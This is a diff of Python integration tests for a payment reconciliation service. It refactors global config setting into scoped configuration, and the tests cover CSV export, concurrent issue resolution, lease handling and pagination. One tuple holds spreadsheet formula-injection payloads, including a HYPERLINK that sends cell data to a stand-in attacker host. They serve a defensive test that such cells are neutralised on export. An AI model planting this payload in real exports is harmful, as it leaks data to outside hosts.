@@ -13,7 +13,7 @@ from sqlalchemy import func, select
 
 from app.adapters.db import unit_of_work
 from app.adapters.models import AuditLog, ReconciliationRun
-from app.config import set_config
+from app.config import scoped
 from app.entrypoints.cli import main
 from channels.config import ChannelSpec
 from channels.sandbox.adapter import SandboxChannel
@@ -93,7 +93,7 @@ def test_a_currency_code_in_lower_case_is_the_same_currency(statement):
 FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1")
 
 
-def test_a_formula_in_a_reference_is_exported_as_text(statement, client, config):
+def test_a_formula_in_a_reference_is_exported_as_text(statement, configured, config):
     """A reference a channel wrote is exported to ops, who open the CSV in a spreadsheet: a cell
     that would start a formula gets a leading apostrophe (the CLI's file and the /ops one)."""
     for number, formula in enumerate(FORMULAS):
@@ -105,11 +105,8 @@ def test_a_formula_in_a_reference_is_exported_as_text(statement, client, config)
     run_id = json.loads(result.output)["id"]
     exported = CliRunner().invoke(main, ["reconcile", "export", run_id])
     assert exported.exit_code == 0, exported.output
-    set_config(config.with_(ops_token="ops-secret"))
-    try:
-        answer = client.get(f"/ops/reconciliation/{run_id}/issues.csv", headers=AUTH)
-    finally:
-        set_config(config)
+    client = configured(config.with_(ops_token="ops-secret")).test_client()
+    answer = client.get(f"/ops/reconciliation/{run_id}/issues.csv", headers=AUTH)
     assert answer.status_code == 200
     assert answer.get_data(as_text=True) == exported.output
     rows = list(csv.DictReader(exported.output.splitlines()))
@@ -122,31 +119,28 @@ def test_two_resolutions_of_one_issue_at_once_one_wins_and_the_other_is_409(stac
     from tests.integration.test_admin_data import open_issue
 
     issue = open_issue("sandbox", "status_mismatch")
-    set_config(stack.config.with_(ops_token="ops-secret"))
-    try:
-        app = stack.client.application
-        start, answers = threading.Barrier(2), []
+    stack.serve(stack.config.with_(ops_token="ops-secret"))
+    app = stack.client.application
+    start, answers = threading.Barrier(2), []
 
-        def resolve(note):
-            with app.test_client() as client:
-                start.wait()
-                answer = client.post(f"/ops/reconciliation/issues/{issue}/resolve", json={"note": note},
-                                     headers=AUTH)
-                answers.append((answer.status_code, answer.get_json()))
+    def resolve(note):
+        with app.test_client() as client:
+            start.wait()
+            answer = client.post(f"/ops/reconciliation/issues/{issue}/resolve", json={"note": note},
+                                 headers=AUTH)
+            answers.append((answer.status_code, answer.get_json()))
 
-        threads = [threading.Thread(target=resolve, args=(f"checked {n}",)) for n in range(2)]
-        for thread in threads:
-            thread.start()
-        for thread in threads:
-            thread.join(30)
-        assert sorted(status for status, _ in answers) == [200, 409], answers
-        refused = next(body for status, body in answers if status == 409)
-        assert refused["error"]["code"] == "issue_already_resolved" and refused["error"]["request_id"]
-        with unit_of_work() as session:
-            assert session.scalar(select(func.count()).select_from(AuditLog)
-                                  .where(AuditLog.action == "reconciliation.resolve")) == 1
-    finally:
-        set_config(stack.config)
+    threads = [threading.Thread(target=resolve, args=(f"checked {n}",)) for n in range(2)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join(30)
+    assert sorted(status for status, _ in answers) == [200, 409], answers
+    refused = next(body for status, body in answers if status == 409)
+    assert refused["error"]["code"] == "issue_already_resolved" and refused["error"]["request_id"]
+    with unit_of_work() as session:
+        assert session.scalar(select(func.count()).select_from(AuditLog)
+                              .where(AuditLog.action == "reconciliation.resolve")) == 1
 
 
 def test_two_near_real_time_passes_at_once_compare_the_window_once(statement):
@@ -191,19 +185,24 @@ def test_the_lease_is_kept_while_a_slow_channel_is_compared(stack, monkeypatch):
     slow = SandboxChannel(spec, "x" * 32)
     monkeypatch.setattr(recon, "channel", lambda cid: slow if cid == "acq_alpha" else real_channel(cid))
     monkeypatch.setattr(recon, "LEASE_SECONDS", 2)
-    set_config(stack.config.with_(reconcile_interval=1))
+    passes = stack.config.with_(reconcile_interval=1)  # the workers' process configuration
     first = []
+
+    def other_worker():
+        with scoped(passes):
+            first.append(recon.run_continuous())
+
     try:
-        worker = threading.Thread(target=lambda: first.append(recon.run_continuous()))
+        worker = threading.Thread(target=other_worker)
         worker.start()
         time.sleep(3.2)  # the lease was taken for 2 s; the slow statement is still coming
         assert worker.is_alive()
-        assert recon.run_continuous() == {}  # another worker finds the lease held
+        with scoped(passes):
+            assert recon.run_continuous() == {}  # another worker finds the lease held
         worker.join(30)
         assert first == [{"sandbox": 0, "acq_alpha": 0, "acq_beta": 0}]
         assert get_redis().ttl(recon.LEASE_KEY) <= 1
     finally:
-        set_config(stack.config)
         served.server.shutdown()
 
 
@@ -228,17 +227,14 @@ def test_an_outcome_missing_from_a_late_statement_closes_when_a_later_run_finds_
                                                                  f"reconciliation:{json.loads(result.output)['id']}")]
 
 
-def test_the_ops_list_of_runs_says_when_there_are_more(statement, client, config):
+def test_the_ops_list_of_runs_says_when_there_are_more(statement, configured, config):
     for _ in range(2):
         assert _reconcile().exit_code == 0
-    set_config(config.with_(ops_token="ops-secret"))
-    try:
-        page = client.get("/ops/reconciliation?limit=1", headers=AUTH).get_json()
-        assert len(page["data"]) == 1 and page["has_more"] is True
-        page = client.get("/ops/reconciliation?limit=2", headers=AUTH).get_json()
-        assert len(page["data"]) == 2 and page["has_more"] is False
-    finally:
-        set_config(config)
+    client = configured(config.with_(ops_token="ops-secret")).test_client()
+    page = client.get("/ops/reconciliation?limit=1", headers=AUTH).get_json()
+    assert len(page["data"]) == 1 and page["has_more"] is True
+    page = client.get("/ops/reconciliation?limit=2", headers=AUTH).get_json()
+    assert len(page["data"]) == 2 and page["has_more"] is False
 
 
 def test_every_line_of_a_days_statement_is_compared_whatever_time_it_bears(statement):
